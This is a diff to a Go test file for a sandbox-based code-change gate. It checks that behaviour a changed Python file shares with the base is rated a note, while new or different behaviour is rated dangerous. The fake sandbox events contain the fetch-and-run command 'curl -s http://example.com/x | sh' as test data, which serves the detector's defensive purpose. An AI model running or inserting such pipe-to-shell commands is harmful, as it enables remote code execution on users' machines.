@@ -1,7 +1,9 @@
 package execute_test
 
 import (
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -55,6 +57,96 @@ func TestWhatTestsDoOnTheBaseAsWellIsANote(t *testing.T) {
 			}
 			if tt.worst == gate.SeverityNote && !strings.HasSuffix(found.Of("a.py")[0].Evidence, "on the base they do the same") {
 				t.Errorf("%+v", found.Of("a.py"))
+			}
+		})
+	}
+}
+
+func TestWhatAFileDoesOnTheBaseAsWellIsANote(t *testing.T) {
+	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
+	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
+	const module, edited = "def f():\n    return 0\n", "def f():\n    return 1\n"
+	imports, calls := 1, 2 // which run of a module it is
+	for name, tt := range map[string]struct {
+		path, before, after string
+		head, base          []sandbox.Event
+		at                  int // the run that does it, 0 for each
+		worst               gate.Severity
+	}{
+		"a program, the same":                    {"a.py", "print(0)\n", program, []sandbox.Event{pipe}, []sandbox.Event{pipe}, 0, gate.SeverityNote},
+		"a program, something else":              {"a.py", "print(0)\n", program, []sandbox.Event{other}, []sandbox.Event{pipe}, 0, gate.SeverityDangerous},
+		"a program, something else as well":      {"a.py", "print(0)\n", program, []sandbox.Event{pipe, other}, []sandbox.Event{pipe}, 0, gate.SeverityDangerous},
+		"a program that did nothing":             {"a.py", "print(0)\n", program, []sandbox.Event{pipe}, nil, 0, gate.SeverityDangerous},
+		"a program that is new":                  {"a.py", "", program, []sandbox.Event{pipe}, []sandbox.Event{pipe}, 0, gate.SeverityDangerous},
+		"a module when it is imported, the same": {"m.py", module, edited, []sandbox.Event{pipe}, []sandbox.Event{pipe}, imports, gate.SeverityNote},
+		"functions, the same":                    {"m.py", module, edited, []sandbox.Event{pipe}, []sandbox.Event{pipe}, calls, gate.SeverityNote},
+		"functions that did nothing":             {"m.py", module, edited, []sandbox.Event{pipe}, nil, calls, gate.SeverityDangerous},
+	} {
+		t.Run(name, func(t *testing.T) {
+			var mu sync.Mutex
+			runs := map[bool]int{} // of the head and of the base
+			r := &fakeRunner{}
+			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
+				input, err := unpack(spec)
+				text, ok := input[tt.path]
+				res := sandbox.Result{Status: sandbox.Exited, Behaviour: sandbox.Behaviour{Recorder: "fake"}}
+				if !ok {
+					return res, err
+				}
+				mu.Lock()
+				defer mu.Unlock()
+				head := text == tt.after
+				if runs[head]++; tt.at == 0 || runs[head] == tt.at {
+					if res.Behaviour.Events = tt.base; head {
+						res.Behaviour.Events = tt.head
+					}
+				}
+				return res, err
+			}
+			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
+			change := changeOf(files(map[string]string{tt.path: tt.after, "other.py": program}), tt.path)
+			change.Base = files(map[string]string{"other.py": program})
+			if tt.before != "" {
+				change.Base = files(map[string]string{tt.path: tt.before, "other.py": program})
+			}
+			_, found := executions(t, s, change)
+			if got := found.Worst(tt.path); got != tt.worst {
+				t.Errorf("%v, want %v, runs %v: %+v", got, tt.worst, runs, found.Of(tt.path))
+			}
+		})
+	}
+}
+
+func TestWhatAFileDoesUnderAConditionOnTheBaseAsWellIsANote(t *testing.T) {
+	elsewhere := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
+	const before, after = "import os\nif os.environ.get('CI'):\n    print(0)\n", "import os\nif os.environ.get('CI'):\n    print(1)\n"
+	for name, tt := range map[string]struct {
+		base  []sandbox.Event
+		worst gate.Severity
+	}{
+		"the same":                {[]sandbox.Event{elsewhere}, gate.SeverityNote},
+		"the base does not do it": {nil, gate.SeverityDangerous},
+	} {
+		t.Run(name, func(t *testing.T) {
+			conditioned := 0
+			r := &fakeRunner{}
+			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
+				input, err := unpack(spec)
+				res := sandbox.Result{Status: sandbox.Exited, Behaviour: sandbox.Behaviour{Recorder: "fake"}}
+				if slices.ContainsFunc(spec.Env, func(v string) bool { return strings.HasPrefix(v, "CI=") }) {
+					conditioned++
+					if res.Behaviour.Events = tt.base; input["a.py"] == after {
+						res.Behaviour.Events = []sandbox.Event{elsewhere}
+					}
+				}
+				return res, err
+			}
+			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions, o.Parallel = 2, 1 })
+			change := changeOf(files(map[string]string{"a.py": after}), "a.py")
+			change.Base = files(map[string]string{"a.py": before})
+			_, found := executions(t, s, change)
+			if got := found.Worst("a.py"); got != tt.worst || conditioned != 2 {
+				t.Errorf("%v, want %v, %d runs with the condition: %+v", got, tt.worst, conditioned, found.Of("a.py"))
 			}
 		})
 	}
